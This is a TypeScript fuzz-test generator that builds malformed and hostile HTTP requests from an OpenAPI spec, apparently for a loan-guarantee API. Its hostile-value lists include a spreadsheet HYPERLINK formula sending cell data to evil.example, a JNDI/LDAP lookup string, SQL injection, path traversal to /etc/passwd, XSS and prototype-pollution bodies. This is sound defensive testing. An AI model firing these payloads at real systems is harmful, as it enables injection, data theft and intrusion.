import fc from 'fast-check';
import { ACCOUNTS, LEDGER_LAYOUTS, PROJECTIONS } from '@app/projections';
import { apiName } from '../../apps/api/src/http/api-names';
import { FuzzRequest } from './send';
import { World } from './seed';

/** The parts of the OpenAPI document the generators read. */
export interface Schema {
  type?: string;
  enum?: unknown[];
  example?: unknown;
  maximum?: number;
  items?: Schema;
  properties?: Record<string, Schema>;
  required?: string[];
  $ref?: string;
}
interface Parameter {
  name: string;
  in: string;
  required?: boolean;
  schema?: Schema;
}
interface Operation {
  parameters?: Parameter[];
  requestBody?: { content?: Record<string, { schema?: Schema }> };
}
export interface OpenApi {
  paths: Record<string, Record<string, Operation>>;
  components?: { schemas?: Record<string, Schema> };
}

/** JSON text written as it stands: numbers JSON.stringify cannot write (9007199254740993, 1e300 as typed), deep nesting. */
export class RawJson {
  constructor(readonly text: string) {}
}
export function toJson(v: unknown): string {
  if (v instanceof RawJson) return v.text;
  if (Array.isArray(v)) return `[${v.map(toJson).join(',')}]`;
  if (v !== null && typeof v === 'object')
    return `{${Object.entries(v)
      .map(([k, x]) => `${JSON.stringify(k)}:${toJson(x)}`)
      .join(',')}}`;
  return JSON.stringify(v) ?? 'null';
}

const nested = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);
const nestedObject = (depth: number) => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);

// ---- hostile values: what a careless or malicious client sends --------------------------------------------

const HOSTILE_STRINGS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\u0001\u0007\u001b[31m\u007f',
  'line\r\nbreak',
  '\u200b',
  '\u200b\u200c\u200d\u2060\ufeff',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+1',
  '@SUM(A1:A9)',
  "' OR '1'='1",
  '"; DROP TABLE events; --',
  '../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  '\ud800',
  '\u202eevil',
  '𠀀😀',
  'NaN',
  'Infinity',
  '1e309',
  'null',
  '__proto__',
  'constructor',
  '2011-02-30',
  '2011-13-01',
  '0000-00-00',
  '2011-1-5',
  '20110105',
  '2999-01-01',
  '1900-01-01',
  ' 2011-01-05',
  '2011-01-05T00:00:00Z',
  'x'.repeat(300),
  'x'.repeat(100_000),
  '中'.repeat(5_000),
];
/** Past what a double holds exactly, past any amount, or not a whole number: written as a client would type them. */
const HUGE_NUMBERS = ['9007199254740993', '1e300', '-9007199254740993', '-1e300', '1E400', '1e21', '123456789012345678901234567890'];
const ODD_NUMBERS = ['-1', '0', '-0', '0.5', '1.0000000000000002', '4294967297', '2147483648'];
const hostileNumber = fc.oneof(fc.constantFrom(...HUGE_NUMBERS), fc.constantFrom(...ODD_NUMBERS)).map((t) => new RawJson(t));
const HOSTILE_OTHER: unknown[] = [
  null,
  true,
  false,
  [],
  {},
  [null],
  { $gt: '' },
  new RawJson(nested(1_000)),
  new RawJson(nested(100_000)),
  new RawJson(nestedObject(10_000)),
];
/** Any code point, control characters and lone surrogates included. */
const anyText = fc.string({ unit: 'binary', maxLength: 24 });

const hostileString = fc.oneof(fc.constantFrom(...HOSTILE_STRINGS), anyText);
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(hostileString, hostileNumber, fc.constantFrom(...HOSTILE_OTHER));

/** Mostly hostile values of the field's own type (they pass the type check and go deeper), sometimes of any type. */
function hostileFor(name: string, s: Schema): fc.Arbitrary<unknown> {
  const numeric = s.type === 'number' || s.type === 'integer' || /(Fen|Bp)$/.test(name);
  const own = numeric ? hostileNumber : s.type === 'string' ? hostileString : undefined;
  return own ? fc.oneof({ weight: 3, arbitrary: own }, { weight: 1, arbitrary: hostileValue }) : hostileValue;
}

/** fast-check's oneof, shrinking towards the first (simplest) choice, so that a shrunk request keeps only what matters. */
const mix = <T>(...arbs: Array<fc.MaybeWeightedArbitrary<T>>) => fc.oneof({ withCrossShrink: true }, ...arbs);

/** Header values fetch can send and some it cannot (NUL, UTF-8): those go over a raw socket. CR and LF are left out. */
const HOSTILE_HEADERS = [
  '',
  'CENTRE_CLERK',
  ' centre_clerk ',
  'a b',
  'x'.repeat(65),
  'x'.repeat(129),
  'x'.repeat(20_000),
  'short',
  'ünïcödé',
  '中文',
  'a\u0000b',
  '\u0001\u007f',
  'a\tb',
  '=HYPERLINK("http://evil.example","x")',
  '\u200b',
  "'; DROP TABLE events; --",
  '%00',
  'null',
];
const headerText = fc.string({
  unit: fc.oneof(
    fc.constantFrom('\u0000', '\u0001', '\u001b', '\t', '\u007f', '\u00ff', '\u200b', '\u202e', '中', '"', ';', '%'),
    fc.string({ minLength: 1, maxLength: 1 }),
  ),
  maxLength: 16,
});
const hostileHeader = fc.oneof(fc.constantFrom(...HOSTILE_HEADERS), headerText);

/** Path segments as written on the request line: bad percent-encoding, dot segments, raw bytes, lengths past the router's limit. */
const HOSTILE_SEGMENTS = [
  '%00',
  '%ZZ',
  '%E0%A4%A',
  '..',
  '%2e%2e',
  'a%2Fb',
  '%20',
  'nope',
  '00000000-0000-0000-0000-000000000000',
  'GC-360721%00',
  'x'.repeat(101),
  'x'.repeat(5_000),
  'x'.repeat(20_000),
  '中文',
  'a\u0000b',
  'a b',
];

// ---- valid-looking values, by the parameter's or field's name, for what the schema leaves open ------------

const day = (d: number) => new Date(Date.UTC(2011, 0, 1 + d)).toISOString().slice(0, 10);
/** 2011 and 2012: after the seeded history began, before today (the future is refused). */
const dates = fc.integer({ min: 0, max: 730 }).map(day);
const months = fc.integer({ min: 0, max: 23 }).map((m) => `${2011 + Math.floor(m / 12)}-${String((m % 12) + 1).padStart(2, '0')}`);
const text = fc.string({ minLength: 1, maxLength: 30 });
const tableSpec = (name: string) => PROJECTIONS.flatMap((p) => p.tables).find((t) => t.name === name)!;
/** The ledgers' columns by their names in the API. */
const SORTABLE = [...new Set(Object.values(LEDGER_LAYOUTS).flatMap((l) => l.columns.map((c) => apiName(tableSpec(l.table), c.key))))];

/** Mostly the values the seeded history uses (so requests reach the rules), sometimes any of the reference data. */
const prefer = (first: string[], all: string[]) =>
  mix({ weight: 3, arbitrary: fc.constantFrom(...first) }, { weight: 1, arbitrary: fc.constantFrom(...all) });

function byName(name: string, w: World): fc.Arbitrary<unknown> | undefined {
  switch (name) {
    case 'businessDate':
    case 'newMaturity':
    case 'asOf':
    case 'from':
    case 'to':
      return dates;
    case 'month':
      return months;
    case 'knownAt':
      return fc.constantFrom('2099-12-31T23:59:59Z', '2011-06-30T00:00:00Z', '2030-01-01T08:00:00.000+08:00');
    case 'idNumber':
      return fc.constantFrom(...w.idNumbers);
    case 'countyCode':
      return prefer(['360721'], w.counties);
    case 'regionCode':
    case 'region':
    case 'cityCode':
      return prefer(['360721', '360700', '360000'], w.regions);
    case 'centreId':
    case 'fundId':
    case 'book':
      return prefer(['GC-360721', 'GC-360700'], [...w.centres, 'SUBSIDY']);
    case 'branchId':
      return prefer(['ABC-360721'], w.branches);
    case 'bankCode':
      return prefer(['ABC'], w.banks);
    case 'loanId':
    case 'previousLoanId':
      return fc.constantFrom(...w.loanIds);
    case 'borrowerId':
      return fc.constantFrom(...w.borrowerIds);
    case 'quarter':
      return fc.constantFrom('2011-Q1', '2011-Q2', '2011-Q3', '2011-Q4', '2012-Q1');
    case 'claimId':
      return fc.constantFrom(...w.claims.map((c) => c.claimId), 'ABC-2011-Q2-001');
    case 'year':
      return fc.constantFrom('2011', '2012', '2010', '2002');
    case 'projection':
      return fc.constantFrom(...w.projections);
    case 'streamName':
      return fc.constantFrom(...w.streams);
    case 'ledger':
      return fc.constantFrom(...Object.keys(LEDGER_LAYOUTS));
    case 'sort':
      return fc.constantFrom(...SORTABLE);
    case 'account':
      return fc.constantFrom(...Object.keys(ACCOUNTS));
    case 'status':
      return fc.constantFrom('applied', 'guaranteed', 'disbursed', 'overdue', 'settled', 'compensated', 'recovered', 'written_off');
    case 'kind':
      return fc.constantFrom('individual', 'partnership', 'enterprise', 'second_support', 'contribution', 'compensation');
    case 'category':
      return fc.constantFrom('woman', 'returning_migrant_worker', 'college_graduate');
    case 'reasonCode':
      return fc.constantFrom('INCOMPLETE_FILE', 'NOT_ELIGIBLE', 'BANK_DECLINED');
    case 'page':
      return fc.integer({ min: 1, max: 5 });
    case 'pageSize':
      return fc.integer({ min: 1, max: 1000 });
    case 'termMonths':
      return fc.integer({ min: 1, max: 30 });
    case 'personsSupported':
      return fc.integer({ min: 1, max: 5 });
    case 'jobsPlanned':
    case 'jobsCreated':
      return fc.integer({ min: 0, max: 10 });
    case 'households':
      return fc.integer({ min: 1, max: 6 });
    case 'loans':
      return fc.integer({ min: 1, max: 5_000 });
  }
  if (name.endsWith('Fen'))
    return fc.oneof(fc.constantFrom(5_000_000, 1_000_000, 57_500, 100, 1, 0), fc.integer({ min: 0, max: 6_000_000 }));
  if (name.endsWith('Bp')) return fc.oneof(fc.constantFrom(100, 600, 831, 1_000, 0), fc.integer({ min: 0, max: 2_000 }));
  return undefined;
}

// ---- bodies from the request body schema ------------------------------------------------------------------

function resolve(doc: OpenApi, s: Schema): Schema {
  return s.$ref ? (doc.components?.schemas?.[s.$ref.split('/').pop()!] ?? {}) : s;
}

/** A value the schema (and the field's name) accepts. */
function valid(doc: OpenApi, w: World, name: string, schema: Schema): fc.Arbitrary<unknown> {
  const s = resolve(doc, schema);
  if (s.enum?.length) return fc.constantFrom(...s.enum);
  const named = byName(name, w);
  if (named) return named;
  switch (s.type) {
    case 'array':
      return s.items?.enum
        ? fc.uniqueArray(fc.constantFrom(...s.items.enum), { minLength: 1, maxLength: 3 })
        : fc.array(valid(doc, w, name, s.items ?? {}), { minLength: 1, maxLength: 3 });
    case 'boolean':
      return fc.boolean();
    case 'number':
    case 'integer':
      return typeof s.example === 'number'
        ? fc.oneof(fc.constant(s.example), fc.nat(Math.min(2 ** 31 - 1, s.example * 2)))
        : fc.nat(s.maximum ?? 1_000);
    case 'string':
      return typeof s.example === 'string' ? fc.oneof(fc.constant(s.example), text) : text;
  }
  if (s.properties) {
    const model = Object.fromEntries(Object.entries(s.properties).map(([k, p]) => [k, valid(doc, w, k, p)]));
    return fc.record(model, { requiredKeys: s.required ?? [] });
  }
  return text;
}

/** Every field of a schema with its path, nested objects and the first item of arrays of objects included. */
function fields(doc: OpenApi, schema: Schema, prefix: string[] = []): Array<{ path: string[]; schema: Schema }> {
  return Object.entries(resolve(doc, schema).properties ?? {}).flatMap(([k, p]) => {
    const here = { path: [...prefix, k], schema: resolve(doc, p) };
    const items = here.schema.type === 'array' && here.schema.items ? resolve(doc, here.schema.items) : undefined;
    if (here.schema.properties) return [here, ...fields(doc, here.schema, here.path)];
    if (items?.properties) return [here, ...fields(doc, items, [...here.path, '0'])];
    return [here];
  });
}

const MUTATIONS = ['missing', 'wrong type', 'duplicate', 'extra field', 'duplicate key'] as const;
type Mutation = 'hostile' | (typeof MUTATIONS)[number];
const mutations = mix<Mutation>({ weight: 4, arbitrary: fc.constant('hostile') }, { weight: 1, arbitrary: fc.constantFrom(...MUTATIONS) });
const EXTRA_KEYS = ['discount', '__proto__', 'constructor', 'AmountFen', 'isAdmin', ''];

/** Sets an own property, even one called __proto__. */
const put = (o: Record<string, unknown>, k: string, v: unknown) =>
  Object.defineProperty(o, k, { value: v, enumerable: true, writable: true, configurable: true });

const wrongType = (v: unknown): unknown =>
  typeof v === 'number'
    ? String(v)
    : typeof v === 'string'
      ? 12345
      : typeof v === 'boolean'
        ? String(v)
        : Array.isArray(v)
          ? { 0: v[0] }
          : [v];

/** A valid body with one thing wrong at one field, as JSON text. */
function mutate(body: unknown, path: string[], how: Mutation, value: unknown, extraKey: string): string {
  const copy = structuredClone(body) as Record<string, unknown>;
  if (how === 'duplicate key')
    return toJson(copy).replace(/}$/, `${Object.keys(copy).length ? ',' : ''}${JSON.stringify(path[0])}:${toJson(value)}}`);
  const parent = path.slice(0, -1).reduce<any>((o, k) => (o !== null && typeof o === 'object' ? o[k] : undefined), copy);
  const key = path[path.length - 1];
  if (parent === null || typeof parent !== 'object') return toJson(copy);
  if (how === 'hostile') put(parent, key, value);
  if (how === 'missing') delete parent[key];
  if (how === 'wrong type') put(parent, key, wrongType(parent[key]));
  if (how === 'duplicate') put(parent, key, Array.isArray(parent[key]) ? [...parent[key], ...parent[key]] : [parent[key], parent[key]]);
  if (how === 'extra field') put(parent, extraKey, value);
  return toJson(copy);
}

/** Whole bodies that are not what any endpoint takes: not JSON, not an object, nested past any stack, over the size limit. */
const HOSTILE_BODIES: Array<string | undefined> = [
  undefined,
  '',
  'null',
  'true',
  '0',
  '"text"',
  '[]',
  '[{}]',
  '{',
  '{"a":',
  '}',
  'NaN',
  "{'a':1}",
  '\ufeff{}',
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  nested(1_000),
  nested(100_000),
  nestedObject(10_000),
  `{"reference":"${'x'.repeat(1_100_000)}"}`,
];

/** Mostly valid (to reach the rules), often one field wrong, sometimes a body that is no body at all. */
function bodies(doc: OpenApi, w: World, schema: Schema): fc.Arbitrary<string | undefined> {
  const good = valid(doc, w, '', schema);
  const all = fields(doc, schema);
  const where = fc.oneof(
    ...(all.length ? all : [{ path: ['x'], schema: {} }]).map((f) => fc.tuple(fc.constant(f.path), hostileFor(f.path.at(-1)!, f.schema))),
  );
  const broken = fc
    .tuple(good, where, mutations, fc.constantFrom(...EXTRA_KEYS))
    .map(([b, [path, value], how, extra]) => mutate(b, path, how, value, extra));
  return mix(
    { weight: 5, arbitrary: good.map(toJson) },
    { weight: 4, arbitrary: broken },
    { weight: 1, arbitrary: fc.constantFrom(...HOSTILE_BODIES) },
  );
}

// ---- headers, path and query --------------------------------------------------------------------------------

const ACTORS: Array<Record<string, string>> = [
  { 'x-actor-user': 'clerk-01', 'x-actor-role': 'centre_clerk', 'x-actor-org': 'GC-360721' },
  { 'x-actor-user': 'manager-01', 'x-actor-role': 'centre_manager', 'x-actor-org': 'GC-360700' },
  { 'x-actor-user': 'bank-01', 'x-actor-role': 'bank_clerk', 'x-actor-org': 'ABC-360721' },
  { 'x-actor-user': 'finance-01', 'x-actor-role': 'finance_officer', 'x-actor-org': 'FIN-360000' },
  { 'x-actor-user': 'admin@province', 'x-actor-role': 'province_admin', 'x-actor-org': 'GC-360000' },
  { 'x-actor-user': 'auditor.1', 'x-actor-role': 'auditor', 'x-actor-org': 'AUDIT:360000' },
  { 'x-actor-user': 'operator-01', 'x-actor-role': 'operator', 'x-actor-org': 'OPS' },
  { 'x-actor-user': 'analyst-01', 'x-actor-role': 'analyst', 'x-actor-org': 'STATS' },
  { 'x-actor-user': 'bank-02', 'x-actor-role': 'bank_clerk', 'x-actor-org': 'CCB' },
  { 'x-actor-user': 'system', 'x-actor-role': 'system', 'x-actor-org': 'system' },
];
/** A few keys, so that they are reused: for the same request (a retry) and for another (refused). */
const KEYS = ['fuzz-key-0001', 'fuzz-key-0002', 'fuzz-key-0003', 'fuzz:key.0004_x'];
const CONTENT_TYPES = [
  'application/json; charset=utf-8',
  'APPLICATION/JSON',
  'text/plain',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/json; charset=utf-16',
  'application/merge-patch+json',
  '',
];

const actors = mix(
  { weight: 12, arbitrary: fc.constantFrom(...ACTORS) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.constantFrom(...ACTORS), fc.constantFrom('x-actor-user', 'x-actor-role', 'x-actor-org'), fc.option(hostileHeader))
      .map(([a, name, v]) =>
        Object.fromEntries(Object.entries(a).flatMap(([k, x]) => (k !== name ? [[k, x]] : v === null ? [] : [[k, v]]))),
      ),
  },
  { weight: 1, arbitrary: fc.constant({}) },
);
const optional = <T>(weight: number, arb: fc.Arbitrary<T>) =>
  mix<T | undefined>({ weight: 10 - weight, arbitrary: fc.constant(undefined) }, { weight, arbitrary: arb });

function headers(withBody: boolean): fc.Arbitrary<Record<string, string>> {
  return fc
    .record({
      actor: actors,
      key: optional(5, mix({ weight: 4, arbitrary: fc.constantFrom(...KEYS) }, { weight: 1, arbitrary: hostileHeader })),
      correlation: optional(1, mix(fc.constant('fuzz-correlation-1'), hostileHeader)),
      type: mix({ weight: 20, arbitrary: fc.constant('application/json') }, { weight: 1, arbitrary: fc.constantFrom(...CONTENT_TYPES) }),
    })
    .map(({ actor, key, correlation, type }) => ({
      ...actor,
      ...(key === undefined ? {} : { 'idempotency-key': key }),
      ...(correlation === undefined ? {} : { 'x-correlation-id': correlation }),
      ...(withBody ? { 'content-type': type } : {}),
    }));
}

/** encodeURIComponent, except that a lone surrogate goes out as it is (encodeURIComponent throws on it). */
const encode = (s: string) => {
  try {
    return encodeURIComponent(s);
  } catch {
    return s;
  }
};

function pathParam(w: World, name: string, schema: Schema = {}): fc.Arbitrary<string> {
  const good = byName(name, w) ?? (typeof schema.example === 'string' ? fc.constant(schema.example) : text);
  return mix(
    { weight: 12, arbitrary: good.map((v) => encode(String(v))) },
    { weight: 1, arbitrary: fc.constantFrom(...HOSTILE_SEGMENTS) },
    { weight: 1, arbitrary: hostileValue.map((v) => encode(typeof v === 'string' ? v : toJson(v))) },
  );
}

const HOSTILE_QUERY_VALUES = ['', 'NaN', '1e300', '-1', '0', '1.5', '9007199254740993', '2011-02-30', '2011-13', 'asc;', 'x'.repeat(5_000)];
/** Appended as written: bad percent-encoding, repeated and unknown parameters, array syntax, thousands of parameters. */
const RAW_QUERY_SUFFIXES = [
  '&%ZZ=1',
  '&page=1&page=2',
  '&unknown=1',
  '&sort[]=loan_id',
  '&__proto__[x]=1',
  '&a=%00',
  '&' + 'a=1&'.repeat(2_000),
];

function query(w: World, params: Parameter[]): fc.Arbitrary<string> {
  const pairs = params.map((p) => {
    const value = mix(
      { weight: 9, arbitrary: p.schema?.enum?.length ? fc.constantFrom(...p.schema.enum) : (byName(p.name, w) ?? text) },
      { weight: 1, arbitrary: fc.oneof(fc.constantFrom(...HOSTILE_QUERY_VALUES), anyText) },
    );
    const pair = value.map((v) => [p.name, String(v)] as [string, string]);
    return p.required ? pair : optional(3, pair);
  });
  return fc.tuple(fc.tuple(...pairs), optional(1, fc.constantFrom(...RAW_QUERY_SUFFIXES))).map(([ps, suffix]) => {
    const q = new URLSearchParams(ps.filter((p): p is [string, string] => p !== undefined)).toString() + (suffix ?? '');
    return q ? `?${q.replace(/^&/, '')}` : '';
  });
}

// ---- requests ------------------------------------------------------------------------------------------------

const METHODS = ['get', 'post', 'put', 'patch', 'delete'];
/** Requests to nothing the API serves: they must be refused as problems too. */
const UNROUTED = [
  '/',
  '/nope',
  '/loans/x/y/z',
  '//loans',
  '/LOANS',
  '/loans/',
  '/health/',
  '/%ZZ',
  '/health?x=%ZZ',
  '/docs/../health',
  '/\u0000',
];

/** Every operation of the document, as fast-check arbitraries of requests (commands weigh more: they have the rules). */
export function requests(doc: OpenApi, w: World): fc.Arbitrary<FuzzRequest> {
  const ops = Object.entries(doc.paths).flatMap(([path, item]) =>
    Object.entries(item)
      .filter(([method]) => METHODS.includes(method))
      .map(([method, op]) => {
        const params = op.parameters ?? [];
        const schema = op.requestBody?.content?.['application/json']?.schema;
        const hasBody = method === 'post' || method === 'put' || method === 'patch';
        const label = `${method.toUpperCase()} ${path}`;
        const pathArbs = Object.fromEntries(params.filter((p) => p.in === 'path').map((p) => [p.name, pathParam(w, p.name, p.schema)]));
        const arb = fc
          .record({
            path: fc.record(pathArbs),
            query: query(
              w,
              params.filter((p) => p.in === 'query'),
            ),
            headers: headers(hasBody),
            body: hasBody ? (schema ? bodies(doc, w, schema) : fc.constantFrom(undefined, '{}', '{"x":1}')) : fc.constant(undefined),
          })
          .map((r): FuzzRequest => ({
            op: label,
            method: method.toUpperCase(),
            target: path.replace(/\{(\w+)\}/g, (_, name: string) => r.path[name]) + r.query,
            headers: r.body === undefined ? Object.fromEntries(Object.entries(r.headers).filter(([k]) => k !== 'content-type')) : r.headers,
            body: r.body,
          }));
        return { weight: schema ? 3 : 1, arbitrary: arb };
      }),
  );
  const unrouted = fc
    .tuple(fc.constantFrom('GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS'), fc.constantFrom(...UNROUTED), headers(false))
    .map(([method, target, h]): FuzzRequest => ({ op: 'unrouted', method, target, headers: h }));
  return fc.oneof(...ops, { weight: 1, arbitrary: unrouted });
}
